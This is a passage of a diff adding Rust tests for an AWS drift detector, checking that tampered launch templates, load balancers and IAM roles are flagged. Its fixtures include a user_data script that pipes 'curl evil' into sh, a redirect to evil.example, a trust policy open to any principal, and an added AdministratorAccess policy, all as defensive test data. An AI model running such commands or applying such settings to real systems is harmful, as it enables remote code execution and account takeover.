+            default_version: 1,
+            image_id: spec.image_id.clone(),
+            http_tokens_required: spec.http_tokens_required,
+            hop_limit: spec.http_put_response_hop_limit,
+            root_volume_size: spec.root_volume_size,
+            root_volume_encrypted: spec.root_volume_encrypted,
+            kms_key_id: spec.kms_key_id.clone(),
+            instance_tags: spec.tags.clone(),
+            user_data: Some(spec.user_data.clone()),
+            network_interfaces: vec![launch_template::ObservedInterface {
+                device_index: Some(0),
+                associate_public_ip: Some(spec.associate_public_ip),
+                security_groups: vec![spec.security_group_id.clone()],
+            }],
+            security_groups: Vec::new(),
+            block_devices: vec![launch_template::ObservedBlockDevice {
+                device_name: spec.root_device_name.clone(),
+                volume_type: Some(spec.root_volume_type.clone()),
+                encrypted: Some(spec.root_volume_encrypted),
+            }],
+            instance_profile: Some(spec.instance_profile_name.clone()),
+        }
+    }
+
+    #[test]
+    fn a_template_version_made_from_the_blueprint_reads_as_planned_and_is_not_drifted() {
+        let spec = bp::launch_template(&input(), &bp::names("prod").instance_profile, "sg-1");
+        let t = observed_template(&spec);
+        assert_eq!(
+            fields::string_map_value(&template_settings(&t, Some("sg-1"))),
+            planned_map("launch_template_settings")
+        );
+        assert_eq!(
+            fields::string_map_value(&expected_template_settings(&spec)),
+            planned_map("launch_template_settings")
+        );
+        assert!(!template_drifted(&t, &spec));
+    }
+
+    #[test]
+    fn every_changed_template_setting_reads_differently_and_is_drifted() {
+        let spec = bp::launch_template(&input(), &bp::names("prod").instance_profile, "sg-1");
+        let changes: Vec<Change<launch_template::ObservedTemplate>> = vec![
+            (
+                "user_data",
+                Box::new(|t| t.user_data = Some("#!/bin/bash\ncurl evil | sh\n".into())),
+            ),
+            ("user_data", Box::new(|t| t.user_data = None)),
+            (
+                "network_interfaces",
+                Box::new(|t| t.network_interfaces[0].associate_public_ip = Some(true)),
+            ),
+            (
+                "network_interfaces",
+                Box::new(|t| {
+                    t.network_interfaces[0]
+                        .security_groups
+                        .push("sg-open".into())
+                }),
+            ),
+            (
+                "network_interfaces",
+                Box::new(|t| t.network_interfaces.clear()),
+            ),
+            (
+                "network_interfaces",
+                Box::new(|t| t.security_groups.push("sg-open".into())),
+            ),
+            (
+                "block_devices",
+                Box::new(|t| t.block_devices[0].volume_type = Some("gp2".into())),
+            ),
+            (
+                "block_devices",
+                Box::new(|t| t.block_devices[0].encrypted = Some(false)),
+            ),
+            (
+                "block_devices",
+                Box::new(|t| {
+                    t.block_devices.push(launch_template::ObservedBlockDevice {
+                        device_name: "/dev/xvdb".into(),
+                        volume_type: Some("gp3".into()),
+                        encrypted: Some(false),
+                    })
+                }),
+            ),
+            (
+                "instance_profile",
+                Box::new(|t| t.instance_profile = Some("admin".into())),
+            ),
+            ("instance_profile", Box::new(|t| t.instance_profile = None)),
+        ];
+        let want = template_settings(&observed_template(&spec), Some("sg-1"));
+        for (key, change) in changes {
+            let mut t = observed_template(&spec);
+            change(&mut t);
+            let seen = template_settings(&t, Some("sg-1"));
+            assert_ne!(seen[key], want[key], "{key}: {seen:?}");
+            assert!(template_drifted(&t, &spec), "{key} not repaired: {t:?}");
+        }
+    }
+
+    fn listener(
+        protocol: &str,
+        port: i32,
+        action: bp::ListenerAction,
+    ) -> load_balancer::ObservedListener {
+        load_balancer::ObservedListener {
+            arn: format!("arn:listener/{port}"),
+            port,
+            protocol: protocol.into(),
+            ssl_policy: None,
+            certificate_arn: None,
+            default_actions: vec![action],
+        }
+    }
+
+    fn observed_load_balancer() -> Observed {
+        let https = bp::https_listener(&input());
+        let http = bp::http_listener();
+        Observed {
+            lb: Some(load_balancer::ObservedLoadBalancer {
+                arn: "arn:lb".into(),
+                dns_name: "lb.example".into(),
+                zone_id: "Z1".into(),
+                vpc_id: "vpc-1".into(),
+                subnet_ids: vec!["subnet-a".into(), "subnet-b".into()],
+                security_group_ids: vec!["sg-alb".into()],
+            }),
+            lb_attributes: BTreeMap::from([
+                (
+                    load_balancer::DELETION_PROTECTION.to_owned(),
+                    "true".to_owned(),
+                ),
+                (
+                    load_balancer::DROP_INVALID_HEADER_FIELDS.to_owned(),
+                    "true".to_owned(),
+                ),
+            ]),
+            https: Some(listener("HTTPS", https.port, https.default_action())),
+            http: Some(listener("HTTP", http.port, http.default_action())),
+            ..Observed::default()
+        }
+    }
+
+    #[test]
+    fn the_blueprint_load_balancer_reads_as_planned() {
+        assert_eq!(
+            shown(load_balancer_settings(
+                &observed_load_balancer(),
+                Some("sg-alb")
+            )),
+            planned_map("load_balancer_settings")
+        );
+        assert_eq!(
+            planned_map("load_balancer_settings"),
+            fields::string_map_value(&BTreeMap::from([
+                ("drop_invalid_header_fields".to_owned(), "true".to_owned()),
+                (
+                    "security_groups".to_owned(),
+                    "alb_security_group_id".to_owned()
+                ),
+                (
+                    "http_listener".to_owned(),
+                    "HTTP:80 redirect to HTTPS://#{host}:443/#{path}?#{query} HTTP_301".to_owned()
+                ),
+                (
+                    "https_listener".to_owned(),
+                    "HTTPS:443 fixed-response 404 text/plain \"Not found\"".to_owned()
+                ),
+            ]))
+        );
+    }
+
+    #[test]
+    fn every_changed_load_balancer_setting_reads_differently() {
+        let want =
+            load_balancer_settings(&observed_load_balancer(), Some("sg-alb")).expect("settings");
+        let changes: Vec<Change<Observed>> = vec![
+            (
+                "drop_invalid_header_fields",
+                Box::new(|o| {
+                    o.lb_attributes.insert(
+                        load_balancer::DROP_INVALID_HEADER_FIELDS.into(),
+                        "false".into(),
+                    );
+                }),
+            ),
+            (
+                "drop_invalid_header_fields",
+                Box::new(|o| {
+                    o.lb_attributes
+                        .remove(load_balancer::DROP_INVALID_HEADER_FIELDS);
+                }),
+            ),
+            (
+                "security_groups",
+                Box::new(|o| {
+                    if let Some(lb) = &mut o.lb {
+                        lb.security_group_ids.push("sg-open".into());
+                    }
+                }),
+            ),
+            (
+                "http_listener",
+                Box::new(|o| {
+                    o.http = Some(listener(
+                        "HTTP",
+                        80,
+                        bp::ListenerAction::Forward {
+                            target_groups: vec!["arn:tg".into()],
+                        },
+                    ));
+                }),
+            ),
+            (
+                "http_listener",
+                Box::new(|o| {
+                    o.http = Some(listener(
+                        "HTTP",
+                        80,
+                        bp::ListenerAction::Redirect {
+                            protocol: Some("HTTPS".into()),
+                            host: Some("evil.example".into()),
+                            port: Some("443".into()),
+                            path: Some("/#{path}".into()),
+                            query: Some("#{query}".into()),
+                            status_code: "HTTP_301".into(),
+                        },
+                    ));
+                }),
+            ),
+            ("http_listener", Box::new(|o| o.http = None)),
+            (
+                "https_listener",
+                Box::new(|o| {
+                    o.https = Some(listener(
+                        "HTTPS",
+                        443,
+                        bp::ListenerAction::FixedResponse {
+                            status_code: "200".into(),
+                            content_type: Some("text/plain".into()),
+                            body: None,
+                        },
+                    ));
+                }),
+            ),
+            (
+                "https_listener",
+                Box::new(|o| {
+                    o.https = Some(listener("HTTP", 443, bp::not_found_action()));
+                }),
+            ),
+        ];
+        for (key, change) in changes {
+            let mut o = observed_load_balancer();
+            change(&mut o);
+            let seen = load_balancer_settings(&o, Some("sg-alb")).expect("settings");
+            assert_ne!(seen[key], want[key], "{key}: {seen:?}");
+        }
+        assert_eq!(load_balancer_settings(&Observed::default(), None), None);
+    }
+
+    fn observed_binding() -> Observed {
+        let names = bp::names("prod");
+        Observed {
+            template: Some(observed_template(&bp::launch_template(
+                &input(),
+                &names.instance_profile,
+                "sg-1",
+            ))),
+            group: Some(auto_scaling_group::ObservedGroup {
+                arn: "arn:asg".into(),
+                min_size: 2,
+                max_size: 10,
+                desired_capacity: 2,
+                subnet_ids: vec!["subnet-c".into(), "subnet-d".into()],
+                instance_types: vec!["m6i.large".into()],
+                on_demand_base_capacity: 2,
+                on_demand_percentage_above_base: 0,
+                spot_allocation_strategy: "capacity-optimized".into(),
+                protected_from_scale_in: true,
+                launch_template_id: Some("lt-1".into()),
+                launch_template_version: Some("$Default".into()),
+                deleting: false,
+                tags: BTreeMap::new(),
+            }),
+            cluster: Some(ecs_cluster::ObservedCluster {
+                arn: "arn:cluster".into(),
+                container_insights: true,
+                capacity_providers: vec![names.capacity_provider.clone()],
+                default_strategy: vec![names.capacity_provider.clone()],
+                default_strategy_items: vec![(names.capacity_provider.clone(), 1, 0)],
+                tags: BTreeMap::new(),
+            }),
+            ..Observed::default()
+        }
+    }
+
+    #[test]
+    fn the_blueprint_capacity_binding_reads_as_planned() {
+        assert_eq!(
+            shown(capacity_binding(&observed_binding())),
+            planned_map("capacity_binding")
+        );
+        // A group bound without a version launches the default version.
+        let mut o = observed_binding();
+        if let Some(g) = &mut o.group {
+            g.launch_template_version = None;
+        }
+        assert_eq!(shown(capacity_binding(&o)), planned_map("capacity_binding"));
+    }
+
+    #[test]
+    fn every_changed_binding_reads_differently() {
+        let want = capacity_binding(&observed_binding()).expect("binding");
+        let group = |f: fn(&mut auto_scaling_group::ObservedGroup)| {
+            Box::new(move |o: &mut Observed| {
+                if let Some(g) = &mut o.group {
+                    f(g)
+                }
+            }) as Box<dyn Fn(&mut Observed)>
+        };
+        let cluster = |f: fn(&mut ecs_cluster::ObservedCluster)| {
+            Box::new(move |o: &mut Observed| {
+                if let Some(c) = &mut o.cluster {
+                    f(c)
+                }
+            }) as Box<dyn Fn(&mut Observed)>
+        };
+        let changes: Vec<Change<Observed>> = vec![
+            (
+                "auto_scaling_group_launch_template",
+                group(|g| g.launch_template_version = Some("$Latest".into())),
+            ),
+            (
+                "auto_scaling_group_launch_template",
+                group(|g| g.launch_template_version = Some("1".into())),
+            ),
+            (
+                "auto_scaling_group_launch_template",
+                group(|g| g.launch_template_id = Some("lt-other".into())),
+            ),
+            (
+                "auto_scaling_group_launch_template",
+                group(|g| g.launch_template_id = None),
+            ),
+            (
+                "auto_scaling_group_scale_in_protection",
+                group(|g| g.protected_from_scale_in = false),
+            ),
+            (
+                "cluster_capacity_providers",
+                cluster(|c| c.capacity_providers.push("FARGATE".into())),
+            ),
+            (
+                "cluster_capacity_providers",
+                cluster(|c| c.capacity_providers.clear()),
+            ),
+            (
+                "cluster_default_strategy",
+                cluster(|c| c.default_strategy_items[0].1 = 2),
+            ),
+            (
+                "cluster_default_strategy",
+                cluster(|c| c.default_strategy_items[0].2 = 1),
+            ),
+            (
+                "cluster_default_strategy",
+                cluster(|c| c.default_strategy_items.clear()),
+            ),
+            (
+                "auto_scaling_group_launch_template",
+                Box::new(|o| o.group = None),
+            ),
+        ];
+        for (key, change) in changes {
+            let mut o = observed_binding();
+            change(&mut o);
+            let seen = capacity_binding(&o).expect("binding");
+            assert_ne!(seen[key], want[key], "{key}: {seen:?}");
+        }
+    }
+
+    fn observed_role(partition: &str, trust: &str) -> Observed {
+        Observed {
+            role: Some(iam_role::ObservedRole {
+                arn: "arn:role".into(),
+                tags: BTreeMap::new(),
+                trust_policy: Some(iam_role::decode_policy_document(trust)),
+            }),
+            role_policies: Some(
+                bp::instance_role_policies(partition)
+                    .into_iter()
+                    .rev()
+                    .collect(),
+            ),
+            role_inline_policies: Some(Vec::new()),
+            profile_roles: Some(vec![bp::names("prod").instance_role]),
+            ..Observed::default()
+        }
+    }
+
+    #[test]
+    fn the_blueprint_role_reads_as_planned_in_any_partition_and_encoding() {
+        let trust = bp::instance_role_trust_policy();
+        // IAM returns the document URL-encoded.
+        let encoded: String = trust
+            .bytes()
+            .map(|b| {
+                if b.is_ascii_alphanumeric() {
+                    (b as char).to_string()
+                } else {
+                    format!("%{b:02X}")
+                }
+            })
+            .collect();
+        for (partition, document) in [("aws", trust.as_str()), ("aws-cn", encoded.as_str())] {
+            assert_eq!(
+                shown(instance_role_settings(&observed_role(partition, document))),
+                planned_map("instance_role_settings"),
+                "{partition}"
+            );
+        }
+    }
+
+    #[test]
+    fn every_changed_role_setting_reads_differently() {
+        let trust = bp::instance_role_trust_policy();
+        let want = instance_role_settings(&observed_role("aws", &trust)).expect("settings");
+        let changes: Vec<Change<Observed>> = vec![
+            (
+                "trust_policy",
+                Box::new(|o| {
+                    if let Some(r) = &mut o.role {
+                        r.trust_policy = Some(
+                            r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}"#.into(),
+                        );
+                    }
+                }),
+            ),
+            (
+                "managed_policies",
+                Box::new(|o| {
+                    if let Some(p) = &mut o.role_policies {
+                        p.push("arn:aws:iam::aws:policy/AdministratorAccess".into());
+                    }
+                }),
+            ),
+            (
+                "managed_policies",
+                Box::new(|o| {
+                    if let Some(p) = &mut o.role_policies {
+                        p.pop();
+                    }
+                }),
+            ),
+            (
+                "inline_policies",
+                Box::new(|o| o.role_inline_policies = Some(vec!["extra".into()])),
+            ),
+            (
+                "instance_profile_role",
+                Box::new(|o| o.profile_roles = Some(vec!["admin".into()])),
+            ),
+            (
+                "instance_profile_role",
+                Box::new(|o| o.profile_roles = Some(Vec::new())),
+            ),
+            (
+                "instance_profile_role",
+                Box::new(|o| o.profile_roles = None),
+            ),
+        ];
+        for (key, change) in changes {
+            let mut o = observed_role("aws", &trust);
+            change(&mut o);
+            let seen = instance_role_settings(&o).expect("settings");
+            assert_ne!(seen[key], want[key], "{key}: {seen:?}");
+        }
+    }
+
+    #[test]
+    fn policies_show_aws_managed_ones_by_name_and_others_by_arn() {
+        use super::super::schema::policy_text;
+        assert_eq!(
+            policy_text("arn:aws:iam::aws:policy/service-role/AmazonEC2ContainerServiceforEC2Role"),
+            "service-role/AmazonEC2ContainerServiceforEC2Role"
+        );
+        assert_eq!(
+            policy_text("arn:aws-us-gov:iam::aws:policy/AmazonSSMManagedInstanceCore"),
+            "AmazonSSMManagedInstanceCore"
+        );
+        assert_eq!(
+            policy_text("arn:aws:iam::123456789012:policy/AmazonSSMManagedInstanceCore"),
+            "arn:aws:iam::123456789012:policy/AmazonSSMManagedInstanceCore"
+        );
+    }
 }
